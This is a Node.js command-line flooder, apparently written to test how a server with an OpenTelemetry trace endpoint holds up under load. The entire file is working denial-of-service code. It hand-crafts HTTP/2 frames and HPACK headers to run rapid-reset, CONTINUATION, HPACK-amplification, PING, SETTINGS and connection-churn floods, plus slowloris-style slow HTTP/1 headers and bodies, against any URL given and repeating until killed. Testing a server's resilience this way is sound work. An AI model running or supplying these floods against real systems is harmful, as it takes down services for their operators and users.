// An attacker in a process of its own: node flooder.mjs ATTACK URL. It repeats the attack until it is killed, and
// opens each connection that the server closes again.
import { connect as connectHttp2 } from 'node:http2'
import { connect } from 'node:net'

const [name = '', target = ''] = process.argv.slice(2)
const { hostname, port } = new URL(target)
const EXPORT = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9]
const [END_STREAM, END_HEADERS] = [1, 4]

/** @param {number} type @param {number} flags @param {number} stream @param {Buffer} payload */
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** An HPACK text without Huffman coding. @param {string} text */
function text(text) {
  const bytes = Buffer.from(text)
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes])
  const length = [127]
  let rest = bytes.length - 127
  for (; rest > 127; rest >>>= 7) length.push((rest & 127) | 128)
  return Buffer.concat([Buffer.of(...length, rest), bytes])
}

/** A header that is not indexed (0x00), or that the dynamic table keeps (0x40). */
const header = (/** @type {string} */ key, /** @type {string} */ value, kind = 0) =>
  Buffer.concat([Buffer.of(kind), text(key), text(value)])

// `:method POST` and `:scheme http` are in the static table.
const CALL = Buffer.concat([
  Buffer.of(0x83, 0x86),
  header(':path', EXPORT),
  header(':authority', 'localhost'),
  header('content-type', 'application/grpc'),
  header('te', 'trailers'),
])

/** A connection that writes as fast as the server reads, and begins again when it is closed. */
function repeat(/** @type {() => () => Buffer} */ begin) {
  const next = begin()
  const socket = connect(Number(port), hostname)
  const write = () => {
    while (!socket.destroyed && socket.write(next())) continue
  }
  socket
    .on('connect', write)
    .on('drain', write)
    .on('error', () => {})
    .on('close', () => setTimeout(() => repeat(begin), 5))
    .resume()
}

/** Frames of one connection, in batches; each call has the next stream. */
const frames = (/** @type {(stream: number) => Buffer} */ of, { batch = 64, settings = true } = {}) => {
  let stream = -1
  let isFirst = true
  return () => {
    const many = Buffer.concat(Array.from({ length: batch }, () => of((stream += 2))))
    if (!isFirst) return many
    isFirst = false
    return Buffer.concat([PREFACE, ...(settings ? [frame(SETTINGS, 0, 0), frame(SETTINGS, 1, 0)] : []), many])
  }
}

const many = (/** @type {number} */ count, /** @type {() => () => Buffer} */ begin) => {
  for (let connection = 0; connection < count; connection++) repeat(begin)
}
const call = (/** @type {number} */ stream, /** @type {Buffer[]} */ ...headers) =>
  frame(HEADERS, END_STREAM | END_HEADERS, stream, Buffer.concat([CALL, ...headers]))

/** Calls with as many fresh headers as a client may send, by a client that obeys all limits. */
function politeCalls() {
  const session = connectHttp2(target)
  session.on('error', () => {})
  let number = 0
  let isOver = false
  session.on('close', () => {
    isOver = true
    setTimeout(politeCalls, 5)
  })
  const send = () => {
    if (isOver || session.closed || session.destroyed) return
    /** @type {Record<string, string>} */
    const headers = {}
    for (let count = 0; count < 60; count++) headers[`x-${number}-${count}`] = `${number++}`
    const stream = session.request({
      ':method': 'POST',
      ':path': EXPORT,
      'content-type': 'application/grpc',
      ...headers,
    })
    stream
      .on('error', () => {})
      .on('close', () => setImmediate(send))
      .resume()
      .end()
  }
  session.on('connect', () => {
    for (let count = 0; count < 100; count++) send()
  })
}

const http =
  (/** @type {string} */ head, body = '') =>
  () => {
    const request = Buffer.from(
      `${head}\r\nHost: localhost\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`,
    )
    const batch = Buffer.concat(Array.from({ length: 64 }, () => request))
    return () => batch
  }

const POST = 'POST /v1/traces HTTP/1.1\r\nContent-Type: application/x-protobuf'

/** Sends a text once on each of many connections, and then a byte a second. */
function slow(/** @type {number} */ count, /** @type {Buffer | string} */ first, drip = '') {
  const open = () => {
    const socket = connect(Number(port), hostname, () => socket.write(first))
    const timer = drip ? setInterval(() => socket.write(drip), 1_000) : undefined
    socket
      .on('error', () => {})
      .on('close', () => {
        clearInterval(timer)
        setTimeout(open, 20)
      })
      .resume()
  }
  for (let connection = 0; connection < count; connection++) open()
}

/** @type {Record<string, () => void>} */
const ATTACKS = {
  'small calls with fresh headers': () => many(50, () => frames((stream) => call(stream, header(`x-${stream}`, 'y')))),
  'calls with 60 fresh headers': () => {
    for (let count = 0; count < 20; count++) politeCalls()
  },
  'HPACK references': () =>
    many(50, () => {
      const kept = header('x-kept', 'v'.repeat(480), 0x40)
      // One byte on the wire is 486 bytes of headers.
      const references = Buffer.alloc(120, 0x80 | 62)
      return frames((stream) => (stream === 1 ? call(stream, kept) : call(stream, references)))
    }),
  'rapid reset': () =>
    many(50, () =>
      frames((stream) => Buffer.concat([call(stream), frame(RST_STREAM, 0, stream, Buffer.of(0, 0, 0, 8))])),
    ),
  CONTINUATION: () =>
    many(50, () => {
      const more = frame(CONTINUATION, 0, 1, header('x-more', 'v'.repeat(200)))
      return frames((stream) => (stream === 1 ? frame(HEADERS, END_STREAM, 1, CALL) : more))
    }),
  PING: () => many(50, () => frames(() => frame(PING, 0, 0, Buffer.alloc(8)))),
  SETTINGS: () => many(50, () => frames(() => frame(SETTINGS, 0, 0, Buffer.of(0, 4, 0, 1, 0, 0)))),
  'empty DATA': () =>
    many(50, () => frames((stream) => (stream === 1 ? frame(HEADERS, END_HEADERS, 1, CALL) : frame(DATA, 0, 1)))),
  'fresh connections': () =>
    many(100, () => {
      let isFirst = true
      return () => {
        if (!isFirst) return Buffer.from('not HTTP/2 at all')
        isFirst = false
        return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), call(1)])
      }
    }),
  'idle connections': () => slow(3_000, PREFACE),
  'small posts over HTTP/1': () => many(50, http(POST, 'x')),
  'gets with 60 headers over HTTP/1': () =>
    many(50, http(`GET /api/records HTTP/1.1\r\n${Array.from({ length: 60 }, (_, at) => `x-${at}: y`).join('\r\n')}`)),
  'slow headers over HTTP/1': () => slow(2_000, `${POST}\r\n`, 'x-a: y\r\n'),
  'slow bodies over HTTP/1': () => slow(2_000, `${POST}\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n`, 'x'),
}

const flood = ATTACKS[name]
if (!flood) throw new Error(`No attack is named ${name}. The attacks: ${Object.keys(ATTACKS).join(', ')}`)
flood()
